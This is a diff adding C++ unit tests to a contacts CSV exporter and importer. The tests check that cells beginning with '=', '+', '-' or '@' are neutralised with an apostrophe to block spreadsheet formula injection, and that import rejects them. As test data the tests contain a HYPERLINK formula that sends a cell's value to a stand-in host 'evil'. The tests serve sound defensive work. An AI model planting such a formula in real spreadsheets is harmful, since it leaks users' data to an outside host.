@@ -122,6 +122,64 @@ TEST_SUITE("contacts") {
     CHECK(out.empty());
   }
 
+  TEST_CASE("export neutralises cells a spreadsheet would run as formulas") {
+    std::vector<Diagnostic> out;
+    ContactTable table = parse_contacts(kTable, out);
+    REQUIRE(out.empty());
+    table.contacts[0].note = "=HYPERLINK(\"http://evil/?\"&A1,\"詳細\")";
+    table.contacts[0].topic = "+経済安全保障";
+    table.contacts[1].organization = "@中部公安調査局";
+    table.contacts[1].note = "-平日のみ";
+    table.contacts[1].topic = "'=引用符つき";
+    table.contacts[1].group = "'そのまま";
+    const std::string csv = contacts_to_csv(table);
+    CHECK(csv.find("県内の窓口,'+経済安全保障,愛知県 経済産業局,https://www.pref.aichi.jp/soshiki/san-kagi/,"
+                   "052-954-6370,,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"詳細\"\")\"\r\n") != std::string::npos);
+    CHECK(csv.find("'そのまま,''=引用符つき,'@中部公安調査局,https://www.moj.go.jp/psia/kouan_mail_keizaianpo.html,,,"
+                   "'-平日のみ\r\n") != std::string::npos);
+    // …and import takes the apostrophes off again: the round trip is exact.
+    const ContactTable back = contacts_from_csv(csv, out);
+    CHECK(formatted(out).empty());
+    CHECK(contacts_to_toml(back) == contacts_to_toml(table));
+  }
+
+  TEST_CASE("neutralising and its reverse") {
+    CHECK(neutralize_cell("=1+1") == "'=1+1");
+    CHECK(neutralize_cell("\t=1") == "'\t=1");
+    CHECK(neutralize_cell("'abc") == "'abc");
+    CHECK(neutralize_cell("''") == "'''");
+    CHECK(neutralize_cell("＝全角") == "＝全角");
+    CHECK(neutralize_cell("052-954-6370") == "052-954-6370");
+    for (const std::string v : {"=1+1", "'=1", "''", "'", "'abc", "abc", "-", "@", "''=x", "＋α"}) {
+      CAPTURE(v);
+      const auto back = unneutralize_cell(neutralize_cell(v));
+      REQUIRE(std::holds_alternative<std::string>(back));
+      CHECK(std::get<std::string>(back) == v);
+    }
+  }
+
+  TEST_CASE("import refuses cells that start like formulas, by row and column") {
+    std::vector<Diagnostic> out;
+    contacts_from_csv(
+        "最終確認日,2025-05-01\n"
+        "区分,相談内容,相談先,URL,電話番号,メール,備考\n"
+        "県内,a,b,,03-1234-5678,,\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"\n"
+        "県内,c,  @SUM(1),,+81-52-954-6370,,-平日のみ\n"
+        "県内,d,e,,03-1234-5678,,'-平日のみ\n",
+        out);
+    CHECK(formatted(out) ==
+          std::vector<std::string>{
+              "3:7: error: '=HYPERLINK(\"http://evil/?\"&A1,\"x\")' starts with '=', which Excel runs as a formula: "
+              "remove it, or write an apostrophe before it ('=…) to keep it as text, as mamori contacts export does",
+              "4:3: error: '@SUM(1)' starts with '@', which Excel runs as a formula: remove it, or write an apostrophe "
+              "before it ('@…) to keep it as text, as mamori contacts export does",
+              "4:5: error: '+81-52-954-6370' starts with '+', which Excel runs as a formula: remove it, or write an "
+              "apostrophe before it ('+…) to keep it as text, as mamori contacts export does",
+              "4:7: error: '-平日のみ' starts with '-', which Excel runs as a formula: remove it, or write an "
+              "apostrophe before it ('-…) to keep it as text, as mamori contacts export does",
+              "4: error: missing 相談先 (organization)"});
+  }
+
   TEST_CASE("import reads Excel's date styles, any column order, and skips blank rows") {
     std::vector<Diagnostic> out;
     const ContactTable table = contacts_from_csv(
